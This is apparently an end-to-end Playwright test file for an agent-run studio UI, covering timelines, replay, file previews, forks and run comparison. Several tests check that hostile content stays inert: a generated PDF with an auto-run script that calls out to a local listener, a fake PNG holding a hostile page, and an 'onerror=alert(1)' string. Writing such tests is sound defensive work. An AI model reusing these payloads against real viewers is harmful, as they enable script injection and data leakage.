"""A finished run from every side: timeline, details, replay, files and previews, forks, and two runs compared."""

import re
import struct
import zlib
from collections.abc import Generator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, expect

from skills_runtime.events.payloads import LlmRequestStarted, LlmUsage, RunCompleted, RunFailed
from skills_runtime.runs import finish_run
from tests.e2e.service.servers import Service
from tests.e2e.studio.browsers import PHONE, complaining, keep_screenshot
from tests.e2e.studio.conftest import Open
from tests.e2e.studio.seeded import open_run
from tests.e2e.studio.services import (
    DRAWING,
    EVERYTHING,
    HOSTILE_PAGE,
    SLOW,
    Listener,
    finished_calls,
    listening,
    log_of,
    scripted,
)

PICTURES = "run_pictures"
SIZE = (240, 160)
WRITES = (
    ("file_write", {"path": "one.txt", "content": "1"}),
    ("file_write", {"path": "two.txt", "content": "2"}),
)
COMPARED = ("run_of_the_first_kind_0001", "run_of_the_second_kind_0002")
MODEL = "a-provider/model-with-a-long-name-2026-11"


@pytest.fixture(scope="module")
def away() -> Generator[Listener]:
    with listening() as elsewhere:
        yield elsewhere


@pytest.fixture(scope="module")
def service(built: None, away: Listener, tmp_path_factory: pytest.TempPathFactory) -> Generator[Service]:
    home = tmp_path_factory.mktemp("views")
    write_pictures(home, away)
    write_compared(home)
    with scripted(home) as running:
        yield running


@pytest.fixture(scope="module")
def slow(service: Service) -> str:
    return finished_calls(service, *SLOW, task="Take your time.")


@pytest.fixture(scope="module")
def rich(service: Service) -> str:
    return finished_calls(service, *EVERYTHING)


@pytest.fixture
def parent(service: Service) -> str:
    return finished_calls(service, *WRITES, task="The parent.")


def write_compared(home: Path) -> None:
    """Two runs with long names and large figures."""
    ends = (RunCompleted(final_output="Done."), RunFailed(error_kind="rate_limited", message="the service is busy"))
    for run_id, end, tokens in zip(COMPARED, ends, (12_345_678, 9_876), strict=True):
        run = open_run(home, run_id)
        run.append(LlmRequestStarted(model=MODEL, messages_count=1))
        run.append(LlmUsage(model=MODEL, input_tokens=tokens, output_tokens=1))
        finish_run(run, end)
        run.close()


def write_pictures(home: Path, away: Listener) -> None:
    """A run that leaves a picture, a page that is called a picture, and a document."""
    run = open_run(home, PICTURES)
    images = {
        "slope.png": _picture(),
        "fake.png": HOSTILE_PAGE.replace("AWAY", away.url).encode(),
        "report.pdf": _document(away.url),
    }
    for name, content in images.items():
        (run.paths.deliverables / name).write_bytes(content)
    finish_run(run, RunCompleted(final_output="Here they are."))
    run.close()


def test_bars_say_what_how_long_and_how_it_ended(studio: Open, slow: str) -> None:
    with studio(f"/studio/runs/{slow}/timeline") as page:
        expect(page.get_by_role("button", name=re.compile("^shell_command: "))).to_have_count(2)
        expect(page.get_by_role("button", name=re.compile(r"^shell_command: \d+ ms, done$"))).to_be_visible()
        expect(page.get_by_role("button", name=re.compile(r"^shell_command: \d+ ms, failed$"))).to_be_visible()
        expect(page.get_by_role("button", name=re.compile(r"^Model talker: .*, done$")).first).to_be_visible()
        keep_screenshot(page, "timeline-1440")


def test_arrows_move_between_bars_and_escape_closes_what_they_tell(studio: Open, slow: str) -> None:
    with studio(f"/studio/runs/{slow}/timeline") as page:
        first = page.get_by_role("button", name=re.compile("^Model talker")).first
        first.focus()
        page.keyboard.press("ArrowDown")
        called = page.get_by_role("button", name=re.compile("^shell_command: .*, done$"))
        expect(called).to_be_focused()
        expect(called).to_have_attribute("aria-current", "true")
        expect(page.get_by_role("heading", name="shell_command Done")).to_be_visible()
        page.keyboard.press("End")
        expect(page.get_by_role("button", name=re.compile("^Model talker")).last).to_be_focused()
        page.keyboard.press("Escape")
        expect(page.get_by_role("tablist", name="Details")).to_have_count(0)


def test_the_axis_can_be_looked_at_closely(studio: Open, slow: str) -> None:
    with studio(f"/studio/runs/{slow}/timeline") as page:
        bar = page.get_by_role("button", name=re.compile("^shell_command: .*, done$"))
        before = bar.bounding_box()
        page.get_by_role("button", name="Zoom in").click()
        expect(page.get_by_text("Zoom 2×")).to_be_visible()
        after = bar.bounding_box()
        assert before
        assert after
        assert after["width"] > before["width"] * 1.5
        page.keyboard.press("0")
        expect(page.get_by_text("Zoom 1×")).to_be_visible()


def test_on_a_narrow_screen_names_stand_above_and_details_fill_the_width(studio: Open, slow: str) -> None:
    with studio(f"/studio/runs/{slow}/timeline", viewport={"width": 360, "height": 780}) as page:
        bar = page.get_by_role("button", name=re.compile("^shell_command: .*, failed$"))
        name = page.get_by_text("shell_command", exact=True).first.bounding_box()
        bounds = page.get_by_role("button", name=re.compile("^shell_command: .*, done$")).bounding_box()
        assert name
        assert bounds
        assert name["y"] < bounds["y"]
        assert name["x"] < 60
        keep_screenshot(page, "timeline-360")
        bar.focus()
        page.keyboard.press("Enter")
        sheet = page.get_by_role("dialog", name="Details")
        expect(sheet).to_be_visible()
        assert (sheet.bounding_box() or {"width": 0})["width"] == 360
        keep_screenshot(page, "details-360")
        page.keyboard.press("Escape")
        expect(sheet).to_have_count(0)
        expect(bar).to_be_focused()


def test_details_show_a_diff_with_hostile_text_as_text(studio: Open, rich: str) -> None:
    with studio(f"/studio/runs/{rich}/timeline") as page:
        page.get_by_role("button", name=re.compile("^apply_patch")).click()
        page.get_by_role("tab", name="Diff").click()
        table = page.get_by_role("table").filter(has_text="onerror")
        expect(table.get_by_text("two", exact=False).first).to_be_visible()
        expect(page.locator("img")).to_have_count(0)
        keep_screenshot(page, "details-diff")
        page.get_by_role("button", name=re.compile("^file_write")).first.click()
        expect(page.get_by_role("tab", name="Diff")).to_have_attribute("aria-selected", "true")
        expect(page.get_by_role("table").filter(has_text="three")).to_be_visible()


def test_details_fetch_what_the_log_leaves_out_when_asked(studio: Open, rich: str) -> None:
    with studio(f"/studio/runs/{rich}/timeline") as page:
        page.get_by_role("button", name=re.compile("^file_read")).click()
        page.get_by_role("tab", name="Output").click()
        expect(page.get_by_role("region", name="stdout")).to_have_count(0)
        page.get_by_role("button", name=re.compile("Load full output")).click()
        expect(page.get_by_role("region", name="stdout")).to_contain_text("onerror=alert(1)")


def test_details_tell_of_the_fence_and_the_exit_code(studio: Open, rich: str) -> None:
    with studio(f"/studio/runs/{rich}/timeline") as page:
        page.get_by_role("button", name=re.compile("^shell_command: .*, failed$")).click()
        page.get_by_role("tab", name="Output").click()
        expect(page.get_by_text("Exit code 3")).to_be_visible()
        expect(page.get_by_role("region", name="stderr")).to_contain_text("to stderr")
        page.get_by_role("tab", name="Sandbox").click()
        expect(page.get_by_text("bubblewrap").first).to_be_visible()
        expect(page.get_by_text("Cannot gain privileges")).to_be_visible()
        page.get_by_role("tab", name="Raw").click()
        expect(page.get_by_text('"tool_call_started"')).to_be_visible()
        expect(page.get_by_role("tab", name="Policy")).to_have_count(0)


def test_home_and_end_show_the_beginning_and_the_end(studio: Open, service: Service, slow: str) -> None:
    count = len(log_of(service, slow))
    with studio(f"/studio/runs/{slow}?at={count - 1}") as page:
        slider = page.get_by_role("slider", name="Position in the run")
        expect(page.get_by_text(f"Event {count} of {count}")).to_be_visible()
        called = page.get_by_role("article").filter(has_text="shell_command")
        expect(called.first).to_be_visible()
        slider.focus()
        page.keyboard.press("Home")
        expect(page).to_have_url(re.compile("at=0"))
        expect(page.get_by_text(f"Event 1 of {count}")).to_be_visible()
        expect(called).to_have_count(0)
        expect(page.get_by_text("Pending", exact=True)).to_be_visible()
        keep_screenshot(page, "replay-start")
        page.keyboard.press("ArrowRight")
        expect(page).to_have_url(re.compile("at=1"))
        page.keyboard.press("End")
        expect(called.first).to_be_visible()
        expect(page.get_by_text("Completed", exact=True).first).to_be_visible()
        keep_screenshot(page, "replay-end")


def test_it_plays_to_the_end_and_stops(studio: Open, service: Service, slow: str) -> None:
    count = len(log_of(service, slow))
    with studio(f"/studio/runs/{slow}?at=0", reduced_motion="no-preference") as page:
        page.get_by_label("Speed").select_option("16")
        page.get_by_role("button", name="Play", exact=True).click()
        expect(page.get_by_text(f"Event {count} of {count}")).to_be_visible()
        expect(page.get_by_role("button", name="Play", exact=True)).to_be_visible()


def test_the_position_can_be_left_where_it_is(studio: Open, service: Service, slow: str) -> None:
    with studio(f"/studio/runs/{slow}?at=0") as page:
        page.get_by_label("Speed").select_option("1")
        page.get_by_role("button", name="Play", exact=True).click()
        page.get_by_role("button", name="Pause").click()
        expect(page.get_by_role("button", name="Play", exact=True)).to_be_visible()
        page.get_by_role("button", name="Go to end").click()
        expect(page.get_by_text("Completed", exact=True).first).to_be_visible()
        page.get_by_role("button", name="Go to start").click()
        expect(page.get_by_text("Pending", exact=True)).to_be_visible()


def test_the_timeline_shows_only_what_had_happened(studio: Open, service: Service, slow: str) -> None:
    started = next(event["seq"] for event in log_of(service, slow) if event["type"] == "tool_call_started")
    with studio(f"/studio/runs/{slow}/timeline?at={started - 1}") as page:
        expect(page.get_by_role("button", name=re.compile("^Model talker"))).to_have_count(1)
        expect(page.get_by_role("button", name=re.compile("^shell_command"))).to_have_count(0)


@pytest.mark.parametrize(("name", "text"), [("page.html", "Quarterly report"), ("drawing.svg", "")])
def test_a_hostile_page_stays_inert(browser: Browser, service: Service, name: str, text: str) -> None:
    with listening() as elsewhere:
        content = {"page.html": HOSTILE_PAGE, "drawing.svg": DRAWING}[name].replace("AWAY", elsewhere.url)
        run_id = finished_calls(
            service, ("file_write", {"path": f"deliverables/{name}", "content": content}), task="Report."
        )
        with complaining(browser, service, f"/studio/runs/{run_id}/files") as page:
            with page.expect_response(lambda answer: "preview=1" in answer.url) as response:
                page.get_by_role("button", name=re.compile(name)).first.click()
            assert response.value.headers["content-security-policy"].startswith("sandbox;")
            element = page.locator(f"iframe[title$='{name}']")
            expect(element).to_have_attribute("sandbox", "")
            handle = element.element_handle()
            assert handle is not None
            frame = handle.content_frame()
            assert frame is not None
            frame.wait_for_url(re.compile("preview=1"))
            if text:
                expect(page.frame_locator(f"iframe[title$='{name}']").get_by_text(text)).to_be_visible()
            assert frame.evaluate("self.origin") == "null"
            assert frame.evaluate("document.body?.dataset.ran ?? null") is None
            assert page.title().startswith("Report."), "the frame has reached the page around it"
            keep_screenshot(page, f"files-hostile-{name.partition('.')[2]}")
    assert elsewhere.heard == []


def test_files_are_listed_with_size_and_hash_and_shown_by_their_kind(studio: Open, rich: str) -> None:
    with studio(f"/studio/runs/{rich}/files") as page:
        expect(page.get_by_role("heading", name=re.compile("Deliverables"))).to_be_visible()
        page.get_by_role("button", name=re.compile("report.md")).click()
        preview = page.get_by_role("region", name="Preview of deliverables/report.md")
        expect(preview.get_by_role("heading", name="Report", exact=True)).to_be_visible()
        expect(preview.get_by_text("SHA-256")).to_be_visible()
        expect(preview.locator("script")).to_have_count(0)
        page.get_by_role("button", name=re.compile("table.csv")).click()
        expect(page.get_by_role("cell", name="well, <b>yes</b>")).to_be_visible()
        keep_screenshot(page, "files-table")
        page.get_by_role("button", name=re.compile("data.json")).click()
        expect(page.get_by_text("42", exact=True)).to_be_visible()
        page.get_by_role("button", name=re.compile("archive.zip")).click()
        expect(page.get_by_text("can only be downloaded")).to_be_visible()
        with page.expect_download() as saving:
            page.get_by_role("link", name="Download deliverables/archive.zip").click()
        assert saving.value.suggested_filename == "archive.zip"


def test_the_chosen_file_is_in_the_address(studio: Open, rich: str) -> None:
    with studio(f"/studio/runs/{rich}/files?file=deliverables/data.json") as page:
        expect(page.get_by_role("region", name="Preview of deliverables/data.json")).to_be_visible()


def test_files_at_phone_width_in_chinese(studio: Open, rich: str) -> None:
    path = f"/studio/runs/{rich}/files?file=deliverables/report.md"
    with studio(path, viewport={"width": 360, "height": 780}, locale="zh-CN", color_scheme="dark") as page:
        expect(page.get_by_role("heading", name=re.compile("交付物"))).to_be_visible()
        expect(page.get_by_role("heading", name="Report", exact=True)).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        keep_screenshot(page, "files-360-zh-dark")


def _picture() -> bytes:
    """A picture with a slope of colours."""
    width, height = SIZE
    rows = b"".join(b"\0" + bytes(part for x in range(width) for part in (x, y, 160)) for y in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )


def _document(away: str) -> bytes:
    """A document of one page that wants to open an address and to run a script as soon as it is shown."""
    text = b"BT /F1 24 Tf 40 100 Td (Quarterly report) Tj ET"
    script = f"app.launchURL('{away}/script', true); this.submitForm('{away}/form');"
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (%s) >>" % script.replace("(", "\\(").replace(")", "\\)").encode(),
        b"<< /S /URI /URI (%s/uri) >>" % away.encode(),
    )
    body, offsets = b"%PDF-1.4\n", list[int]()
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + trailer


def _is_viewer(frame: Frame) -> bool:
    """Whether it is where the browser's own viewer shows a document: inside a frame of ours."""
    parent = frame.parent_frame
    return parent is not None and parent.parent_frame is not None


def _file(name: str) -> str:
    return f"/studio/runs/{PICTURES}/files?file=deliverables/{name}"


def test_a_picture_is_shown_whole(studio: Open) -> None:
    with studio(_file("slope.png")) as page:
        preview = page.get_by_role("region", name="Preview of deliverables/slope.png")
        picture = preview.get_by_role("img", name=re.compile("slope.png"))
        expect(picture).to_be_visible()
        page.wait_for_function("() => document.querySelector('main img')?.complete")
        assert picture.evaluate("one => [one.naturalWidth, one.naturalHeight]") == list(SIZE)
        keep_screenshot(page, "files-picture")


def test_a_picture_fits_a_phone(studio: Open) -> None:
    with studio(_file("slope.png"), viewport={"width": 360, "height": 780}, color_scheme="dark") as page:
        expect(page.get_by_role("img", name=re.compile("slope.png"))).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_a_page_that_is_called_a_picture_is_neither(studio: Open, away: Listener) -> None:
    with studio(_file("fake.png")) as page:
        preview = page.get_by_role("region", name="Preview of deliverables/fake.png")
        expect(preview.get_by_text("The browser cannot show this image.")).to_be_visible()
        expect(preview.locator("img, iframe")).to_have_count(0)
        assert "stolen" not in page.title()
    assert away.heard == []


def test_the_address_of_a_picture_runs_nothing_by_itself(browser: Browser, service: Service, away: Listener) -> None:
    address = f"/api/v1/runs/{PICTURES}/artifacts/deliverables/fake.png?preview=1"
    with complaining(browser, service, "/studio/runs") as page:
        answer = page.goto(f"{service.url}{address}")
        assert answer is not None
        assert answer.headers["content-security-policy"].startswith("sandbox;")
        assert answer.headers["content-type"] == "image/png"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert page.evaluate("self.origin") == "null"
    assert away.heard == []


def test_a_document_is_shown_on_an_origin_of_its_own_and_reaches_nothing(
    browser: Browser, service: Service, away: Listener
) -> None:
    with complaining(browser, service, f"/studio/runs/{PICTURES}/files") as page:
        with page.expect_event("framenavigated", _is_viewer):
            page.get_by_role("button", name=re.compile("report.pdf")).click()
        frame = page.locator("iframe[title$='report.pdf']")
        expect(frame).to_be_visible()
        expect(frame).to_have_attribute("src", re.compile("^data:application/pdf;base64,"))
        expect(frame).to_have_attribute("referrerpolicy", "no-referrer")
        expect(page.get_by_text("Shown in the browser's viewer.")).to_be_visible()
        assert "stolen" not in page.title()
        assert page.url.endswith("deliverables%2Freport.pdf")
        keep_screenshot(page, "files-document")
    assert away.heard == []


def _second_call(service: Service, run_id: str) -> int:
    """The event after which the second call had begun and had not ended."""
    started = [event["seq"] for event in log_of(service, run_id) if event["type"] == "tool_call_started"]
    return started[1]


def test_a_fork_from_the_middle_links_parent_and_child(studio: Open, service: Service, parent: str) -> None:
    middle = _second_call(service, parent)
    with studio(f"/studio/runs/{parent}?event={middle}") as page:
        page.get_by_role("button", name="Fork", exact=True).click()
        dialog = page.get_by_role("dialog", name=f"Fork from event {middle}")
        expect(dialog.get_by_label("Last message")).to_have_value(re.compile("^The parent."))
        expect(dialog.get_by_text("1 finished call keeps its result")).to_be_visible()
        expect(dialog.get_by_text("file_write had started and will be executed again.")).to_be_visible()
        keep_screenshot(page, "fork-dialog")
        dialog.get_by_role("button", name="Start the fork").click()
        page.wait_for_url(lambda address: f"/runs/{parent}" not in address)
        child = page.url.rpartition("/runs/")[2].partition("?")[0]
        expect(page.get_by_text("Completed", exact=True).first).to_be_visible()
        back = page.get_by_role("link", name=re.compile(parent))
        expect(back).to_be_visible()
        keep_screenshot(page, "fork-child")
        back.click()
        forks = page.get_by_role("list", name="Fork of this run:")
        expect(forks.get_by_role("link", name=child)).to_be_visible()
        keep_screenshot(page, "fork-parent")
    events = log_of(service, child)
    assert events[0]["payload"]["fork"]["seq"] == middle
    assert [event["payload"]["call_id"] for event in events if event["type"] == "tool_call_finished"] == [
        event["payload"]["call_id"] for event in log_of(service, parent) if event["type"] == "tool_call_finished"
    ][1:]


def test_a_fork_with_other_words_by_keyboard_alone(studio: Open, service: Service, parent: str) -> None:
    started = next(event["seq"] for event in log_of(service, parent) if event["type"] == "run_started")
    with studio(f"/studio/runs/{parent}?event={started}") as page:
        expect(page.get_by_role("tab", name="Raw")).to_be_visible()
        page.locator("body").press("f")
        field = page.get_by_label("Last message")
        expect(field).to_be_focused()
        expect(page.get_by_text("an edited text replaces the task")).to_be_visible()
        page.keyboard.press("Control+a")
        page.keyboard.type("Another task, without f or any call.")
        page.get_by_role("button", name="Start the fork").focus()
        page.keyboard.press("Enter")
        page.wait_for_url(lambda address: f"/runs/{parent}" not in address)
        expect(page.get_by_role("heading", level=1)).to_have_text("Another task, without f or any call.")
        expect(page.get_by_text("Completed", exact=True).first).to_be_visible()


def test_a_refused_fork_says_why_and_keeps_what_was_typed(studio: Open, parent: str) -> None:
    with studio(f"/studio/runs/{parent}") as page:
        page.get_by_role("button", name="Fork", exact=True).click()
        page.get_by_label("Last message").fill("Other words.")
        page.route(
            "**/fork",
            lambda route: route.fulfill(
                status=403,
                content_type="application/problem+json",
                body='{"status": 403, "kind": "permission", "detail": "that model is not allowed"}',
            ),
        )
        page.get_by_role("button", name="Start the fork").click()
        expect(page.get_by_role("alert")).to_contain_text("that model is not allowed")
        expect(page.get_by_label("Last message")).to_have_value("Other words.")
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
        expect(page.get_by_role("button", name="Fork", exact=True)).to_be_focused()


def test_two_runs_are_compared_side_by_side(studio: Open, service: Service, parent: str) -> None:
    other = finished_calls(
        service, WRITES[0], ("file_write", {"path": "three.txt", "content": "3"}), task="The parent."
    )
    with studio("/studio/compare") as page:
        expect(page.get_by_role("heading", name="Choose two runs")).to_be_visible()
        page.get_by_label("Run A").select_option(parent)
        page.get_by_label("Run B").select_option(other)
        expect(page).to_have_url(re.compile(f"a={parent}&b={other}"))
        totals = page.get_by_role("table", name="Totals of both runs")
        for name in ("Duration", "Input tokens", "Cost", "Tool calls"):
            expect(totals.get_by_role("cell", name=name, exact=True)).to_be_visible()
        expect(page.get_by_text("Different").first).to_be_visible()
        keep_screenshot(page, "compare-1440")
        page.get_by_role("button", name="Go to the first difference").press("Enter")
        expect(page.get_by_role("listitem", name="Different").first).to_be_focused()


def test_a_run_is_the_same_as_itself(studio: Open, parent: str) -> None:
    path = f"/studio/compare?a={parent}&b={parent}"
    with studio(path, viewport={"width": 360, "height": 780}, locale="zh-CN") as page:
        expect(page.get_by_text("两次运行的行为相同。")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        keep_screenshot(page, "compare-360-zh")


@pytest.mark.parametrize(("locale", "totals"), [("en-GB", "Totals of both runs"), ("zh-CN", "两次运行的合计")])
def test_the_totals_need_no_scrolling_sideways(studio: Open, locale: str, totals: str) -> None:
    with studio(f"/studio/compare?a={COMPARED[0]}&b={COMPARED[1]}", viewport=PHONE, locale=locale) as page:
        region = page.get_by_role("region", name=totals)
        expect(region).to_contain_text("12,345,678")
        assert region.evaluate("one => one.scrollWidth - one.clientWidth") <= 0
        keep_screenshot(page, f"compare-narrow-{locale}")
